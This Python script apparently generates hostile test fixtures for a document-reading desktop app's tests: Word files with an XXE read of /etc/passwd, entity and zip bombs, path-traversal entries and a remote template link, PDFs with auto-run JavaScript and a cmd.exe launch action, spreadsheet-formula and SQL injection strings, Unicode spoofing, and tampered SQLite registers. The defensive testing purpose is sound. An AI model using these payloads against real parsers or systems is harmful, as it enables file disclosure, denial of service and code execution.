"""Makes the files in this folder: documents and registers that were made to harm.

Run it from the root of the checkout when a kind is added: python tests/data/hostile/make_files.py
Each file is small; what unpacks to much is packed. Names of documents begin with "weiger" when
they must be refused, and with "lees" when they must be read without harm. Those that begin with
"gevonden" were found by fuzzing and stay as they are; they may be read or refused.
"""

import gzip
import io
import shutil
import sqlite3
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

FOLDER = Path(__file__).parent
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    f'<Override PartName="/word/document.xml" ContentType="{MAIN}"/></Types>'
)
HEADS = ("Regio Zuidwest-Nederland", "1 Ruimtelijke opgaven", "Rijk en regio spreken af om:")
LIST = "\n\n".join((*HEADS, "❖ {text}", "❖ Samen verder te gaan."))


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx(body: str, before: str = "", more: dict[str, bytes] | None = None) -> bytes:
    """Return a Word document with this body."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", TYPES)
        text = f"{before}<w:document {W}><w:body>{body}</w:body></w:document>"
        package.writestr("word/document.xml", text)
        for name, content in (more or {}).items():
            package.writestr(name, content)
    return file.getvalue()


def external_entity() -> bytes:
    return docx(
        paragraph("&geheim;"),
        '<!DOCTYPE d [<!ENTITY geheim SYSTEM "file:///etc/passwd">]>',
    )


def entity_bomb() -> bytes:
    steps = "".join(
        f'<!ENTITY a{n} "{"".join(f"&a{n - 1};" for _ in range(10))}">' for n in range(1, 10)
    )
    return docx(paragraph("&a9;"), f'<!DOCTYPE d [<!ENTITY a0 "lach">{steps}]>')


def zip_bomb() -> bytes:
    return docx(paragraph("x" * 30_000_000))


def many_paragraphs() -> bytes:
    return docx("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 400_000)


def deep_nesting() -> bytes:
    return docx("<w:tbl><w:tr><w:tc>" * 20_000 + "</w:tc></w:tr></w:tbl>" * 20_000)


def lying_directory() -> bytes:
    """The directory of the package says that a part is small, and it is not."""
    content = bytearray(docx(paragraph("x" * 5_000_000)))
    place = content.rindex(b"word/document.xml") - 46
    struct.pack_into("<I", content, place + 24, 100)
    return bytes(content)


def path_traversal() -> bytes:
    return docx(
        "".join(map(paragraph, (*HEADS, "❖ Samen verder te gaan."))),
        more={"../../../../novex-ontsnapt": b"x", "/novex-ontsnapt": b"x"},
    )


def external_template() -> bytes:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://192.0.2.1/kwaad.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    return docx(
        "".join(map(paragraph, (*HEADS, "❖ Samen verder te gaan."))),
        more={"word/_rels/settings.xml.rels": relations.encode()},
    )


def cut_package() -> bytes:
    return docx(paragraph("x" * 1000))[:-40]


def workbook() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        rows = '<row r="1000000000000"><c><v>1</v></c></row>'
        package.writestr("xl/worksheets/sheet1.xml", f"<sheetData>{rows}</sheetData>")
        package.writestr("xl/workbook.xml", "<workbook/>")
    return file.getvalue()


def pdf(*objects: bytes) -> bytes:
    parts, offsets, size = [b"%PDF-1.7\n"], [], 9
    for number, body in enumerate(objects, start=1):
        offsets.append(size)
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
        size += len(parts[-1])
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    parts += [b"%010d 00000 n \n" % offset for offset in offsets]
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF"
    return b"".join(parts) + trailer % (len(objects) + 1, size)


def page_tree_in_a_circle() -> bytes:
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 >>",
    )


def packed_stream() -> bytes:
    content = zlib.compress(b"BT (a) Tj ET\n" * 8_000_000, 9)
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(content), content),
    )


def script_in_pdf() -> bytes:
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
        b" /AA << /WC << /S /Launch /F (cmd.exe) >> >> >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
    )


def text(content: str) -> bytes:
    return LIST.format(text=content).encode()


DOCUMENTS: dict[str, Callable[[], bytes]] = {
    "weiger-externe-entiteit.docx": external_entity,
    "weiger-entiteitbom.docx": entity_bomb,
    "weiger-zipbom.docx": zip_bomb,
    "weiger-veel-alineas.docx": many_paragraphs,
    "weiger-diep-genest.docx": deep_nesting,
    "weiger-liegende-inhoudsopgave.docx": lying_directory,
    "weiger-afgekapt.docx": cut_package,
    "weiger-werkmap.xlsx": workbook,
    "weiger-werkmap-met-andere-naam.docx": workbook,
    "weiger-pagina-in-een-kring.pdf": page_tree_in_a_circle,
    "weiger-ingepakte-stroom.pdf": packed_stream,
    "weiger-script.pdf": script_in_pdf,
    "weiger-nulbytes.txt": lambda: b"Afspraken\x00\x01\x02" * 500,
    "weiger-gemengde-codering.txt": lambda: "Fryslân € één".encode() + b"\xe9\xe8 caf\xe9\n" * 3,
    "weiger-stuurtekens.txt": lambda: b"\x1b[2J\x07\x08" * 2_000,
    "lees-pad-omhoog.docx": path_traversal,
    "lees-extern-sjabloon.docx": external_template,
    "lees-leesrichting.txt": lambda: text("Betaal \u202e001\u202c euro \u2066aan\u2069 de regio."),
    "lees-vermomde-letters.txt": lambda: text(
        "De \u0430fspr\u0430\u0430k geldt voor \u0435lke regi\u043e."
    ),
    "lees-formules.txt": lambda: (
        text('=HYPERLINK("http://192.0.2.1";"klik")')
        + b"\n\n2. +31 70 1234567\n\n3. @SUM(A1:A9)\n\n4. -2+3+cmd|' /C calc'!A0\n"
    ),
    "lees-sql.txt": lambda: text("'); DROP TABLE agreement; -- en \" OR 1=1"),
    "weiger-lange-regel.txt.gz": lambda: gzip.compress(text("woord " * 60_000), mtime=0),
}

REGISTERS = {
    "trigger": "CREATE TRIGGER tidy AFTER UPDATE ON agreement BEGIN DELETE FROM agreement; END",
    "blik": """ALTER TABLE agreement RENAME TO hidden;
        CREATE VIEW agreement AS WITH RECURSIVE n(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM n)
        SELECT id FROM n""",
    "index-die-rekent": "CREATE INDEX extra ON party (hex(zeroblob(9)))",
    "ander-schema": "ALTER TABLE agreement ADD COLUMN extra TEXT",
    "virtuele-tabel": "CREATE VIRTUAL TABLE extra USING fts5(words)",
    "geknoeid-schema": """PRAGMA writable_schema = ON;
        UPDATE sqlite_schema SET sql = 'CREATE TABLE agreement (' WHERE name = 'agreement'""",
    # Found by fuzzing: SQLite names the broken part in its error, and that name is no text.
    "schemanaam-geen-tekst": """PRAGMA writable_schema = ON;
        UPDATE sqlite_schema SET name = CAST(x'a87878' AS TEXT), sql = 'CREATE TABLE agreement ('
        WHERE name = 'agreement'""",
}


def make_register(folder: Path, harm: str) -> bytes:
    """Return an empty register with something in it that is not ours."""
    from novex_desktop import paths
    from novex_desktop.store.migrations import create_schema
    from novex_desktop.store.new_register import write_first_rows

    path = folder / "register.novex"
    create_schema(path, paths.get_migrations_folder())
    write_first_rows(path)
    with closing(sqlite3.connect(path)) as connection:
        connection.executescript(harm)
        connection.commit()
    return path.read_bytes()


def main() -> None:
    """Write all files anew."""
    for path in FOLDER.iterdir():
        if path.name.startswith(("weiger-", "lees-")):
            path.unlink()
    for name, make in DOCUMENTS.items():
        (FOLDER / name).write_bytes(make())
    for name, harm in REGISTERS.items():
        folder = Path(tempfile.mkdtemp())
        content = make_register(folder, harm)
        shutil.rmtree(folder)
        packed = gzip.compress(content, mtime=0)
        (FOLDER / f"weiger-register-{name}.novex.gz").write_bytes(packed)


if __name__ == "__main__":
    main()
